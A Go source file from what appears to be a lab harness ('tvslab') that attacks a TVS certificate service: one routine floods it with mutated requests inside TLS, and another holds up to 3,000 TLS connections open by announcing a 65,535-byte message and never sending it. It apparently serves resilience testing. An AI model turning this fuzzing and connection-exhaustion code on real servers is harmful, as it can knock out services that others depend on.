package attack

import (
	"context"
	"math/rand/v2"
	"time"

	"tvslab/service"
	"tvslab/tvs"
)

// questions are valid requests of TVS.
func questions() (list [][]byte) {
	for _, q := range []tvs.Request{
		{Command: tvs.VerifyRequest, Session: 1001, Device: "CP-8861-SEP0A0101000001", Certificate: make([]byte, 600)},
		{Command: tvs.QueryRequest, Session: 1002, Device: "CP-8861-SEP0A0101000001", Subject: "CN=a", Issuer: "CN=b", Serial: []byte{1, 2}},
	} {
		if message, err := q.Marshal(); err == nil {
			list = append(list, message)
		}
	}
	return list
}

// tvsMalformed asks mutated questions inside TLS of all versions.
func tvsMalformed(ctx context.Context, f *Field) error {
	sent, answered := f.count("messages"), f.count("answered")
	addresses, valid := f.addresses(service.TVS), questions()
	crew(ctx, 4, func(r *rand.Rand) {
		c, err := secure(ctx, addresses[r.IntN(len(addresses))], r)
		if err != nil {
			rest(ctx, time.Millisecond)
			return
		}
		defer c.Close()
		write(c, mutated(r, valid[r.IntN(len(valid))]))
		sent.Add(1)
		if hears(c, r) {
			answered.Add(1)
		}
	})
	return nil
}

// tvsLength holds connections that announce 65,535 bytes inside TLS and send none of them.
func tvsLength(ctx context.Context, f *Field) error {
	const header = 10 // bytes, the last two are the length
	announces := append(questions()[0][:header-2:header-2], 0xff, 0xff)
	held := &ring{most: 3000}
	defer held.close()
	opened, addresses := f.count("connections"), f.addresses(service.TVS)
	crew(ctx, 8, func(r *rand.Rand) {
		c, err := secure(ctx, addresses[r.IntN(len(addresses))], r)
		if err != nil {
			rest(ctx, time.Millisecond)
			return
		}
		opened.Add(1)
		held.add(c)
		write(c, announces)
	})
	return nil
}
